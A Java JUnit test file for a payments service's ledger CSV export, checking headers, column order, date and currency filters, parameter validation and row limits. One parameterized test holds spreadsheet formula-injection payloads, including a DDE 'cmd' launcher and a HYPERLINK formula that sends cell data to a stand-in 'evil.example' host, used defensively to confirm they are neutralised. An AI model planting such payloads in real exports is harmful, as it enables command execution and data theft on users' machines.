package com.plugipay.ledger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.plugipay.Api;
import com.plugipay.LeavesFindings;
import com.plugipay.Shop;
import com.plugipay.TestServer;
import com.plugipay.clock.WorkspaceTime;
import com.plugipay.db.Database;
import com.plugipay.error.Rejected;
import com.plugipay.money.Currency;
import com.plugipay.money.Money;
import com.plugipay.scope.Mode;
import com.plugipay.scope.Scope;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// The ledger as a spreadsheet opens it.
@LeavesFindings("Books facts that never happened.")
class LedgerCsvTest {
    private static final Instant MAY = Instant.parse("2026-05-01T03:04:05.678Z");

    private final TestServer server = TestServer.shared();
    private final Shop shop = server.newShop();
    private final Books books = Books.of(server, shop);

    @Test
    void a_file_of_every_entry_oldest_first() throws IOException {
        books.post(Books.capture("pay_2", 20), MAY.plusSeconds(1));
        books.post(Books.capture("pay_1", 150_000).withMemo("Meja 7, \"teras\""), MAY);
        Api.Reply reply = shop.bearer().get("/v1/reports/ledger.csv").expect(200);
        assertThat(reply.header("Content-Type")).isEqualToIgnoringCase("text/csv;charset=utf-8");
        assertThat(reply.header("Content-Disposition")).isEqualTo("attachment; filename=\"ledger.csv\"");
        assertThat(reply.header("Cache-Control")).isEqualTo("no-store");
        List<CsvRecord> rows = rows(reply);
        assertThat(rows.getFirst().getFields())
                .containsExactly(
                        "id",
                        "posted_at",
                        "tx_id",
                        "code",
                        "direction",
                        "amount",
                        "currency",
                        "source_type",
                        "source_id",
                        "memo");
        assertThat(rows).hasSize(5);
        assertThat(rows.get(1).getFields().subList(3, 10))
                .containsExactly(
                        "gateway:xendit",
                        "debit",
                        "150000",
                        "IDR",
                        "checkout_session",
                        "cs_pay_1",
                        "Meja 7, \"teras\"");
        assertThat(rows.get(1).getField(1)).isEqualTo("2026-05-01T03:04:05.678Z");
        assertThat(rows.get(2).getField(2)).isEqualTo(rows.get(1).getField(2));
        assertThat(rows.get(4).getField(9)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "＝1+1",
                "=HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")"
            })
    void a_hostile_memo_is_text_and_no_formula(String memo) throws IOException {
        books.post(Books.capture("pay_1", 10).withMemo(memo));
        List<CsvRecord> rows = rows(shop.bearer().get("/v1/reports/ledger.csv").expect(200));
        assertThat(rows).hasSize(3);
        assertThat(rows.get(1).getField(9)).isEqualTo("'" + memo);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=1", "Meja 7", "", "'quoted'", "5 + 5", "x\n=1"})
    void a_harmless_cell_stays_as_it_is(String text) {
        assertThat(LedgerCsv.cell(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            from=2026-05-01T03:04:05.678Z     | 4
            from=2026-05-01T03:04:05.679Z     | 2
            to=2026-05-01T03:04:05.678Z       | 0
            to=2026-05-01T03:04:05.679Z       | 2
            from=2026-05-01&to=2026-05-02     | 2
            currency=USD                      | 2
            currency=IDR                      | 2
            """)
    void a_period_and_a_currency_narrow_it(String query, int entries) {
        books.post(Books.capture("pay_1", 10), MAY);
        books.post(
                Booking.capture("paypal", Account.REVENUE_CHECKOUT, "pay_2", "cs_2", new Money(5, Currency.USD)),
                MAY.plusSeconds(90_000));
        assertThat(shop.bearer()
                        .get("/v1/reports/ledger.csv?" + query)
                        .expect(200)
                        .text()
                        .lines())
                .hasSize(entries + 1);
    }

    @ParameterizedTest
    @CsvSource({"from=soon, from", "to=1, to", "currency=EUR, currency", "limit=5, limit"})
    void a_wrong_parameter_is_named(String query, String param) {
        assertThat(shop.bearer()
                        .get("/v1/reports/ledger.csv?" + query)
                        .refused(400, "validation_error")
                        .errorParam())
                .isEqualTo(param);
    }

    @Test
    void many_pieces_make_one_file() throws IOException {
        books.captures(1_100);
        List<CsvRecord> rows = rows(shop.bearer().get("/v1/reports/ledger.csv").expect(200));
        assertThat(rows).hasSize(2_201);
        assertThat(rows.stream().map(row -> row.getField(0))).doesNotHaveDuplicates();
        assertThat(rows.stream().skip(1).map(row -> row.getField(1))).isSorted();
        for (int i = 1; i < rows.size(); i += 2) {
            assertThat(rows.get(i).getField(2)).isEqualTo(rows.get(i + 1).getField(2));
        }
    }

    @Test
    void a_file_longer_than_the_bound_is_refused_before_its_first_byte() {
        books.captures(3);
        var csv = new LedgerCsv(
                server.running().part(Database.class),
                server.running().part(LedgerStore.class),
                server.running().part(WorkspaceTime.class),
                5);
        var scope = new Scope(shop.workspace(), Mode.TEST);
        assertThatThrownBy(() -> csv.refuseTooMany(scope, new LedgerCsv.Period(null, null, null)))
                .isInstanceOfSatisfying(
                        Rejected.class, refused -> assertThat(refused).hasMessageContaining("more than 5 entries"));
        csv.refuseTooMany(scope, new LedgerCsv.Period(null, null, Currency.USD));
    }

    private static List<CsvRecord> rows(Api.Reply reply) throws IOException {
        var rows = new ArrayList<CsvRecord>();
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(reply.text())) {
            reader.forEach(rows::add);
        }
        return rows;
    }
}
